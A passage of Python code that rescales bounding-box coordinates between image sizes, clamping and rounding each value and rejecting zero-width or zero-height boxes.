    xa, xb = sorted((_scale(x1, ow / sw, ow), _scale(x2, ow / sw, ow)))
    ya, yb = sorted((_scale(y1, oh / sh, oh), _scale(y2, oh / sh, oh)))
    if xa == xb or ya == yb:
        return None
    return xa, ya, xb, yb


def _scale(v: float, factor: float, limit: int) -> int:
    scaled = min(max(v * factor, 0.0), float(limit))  # clamp before rounding: no inf
    return min(math.floor(scaled + 0.5), limit)
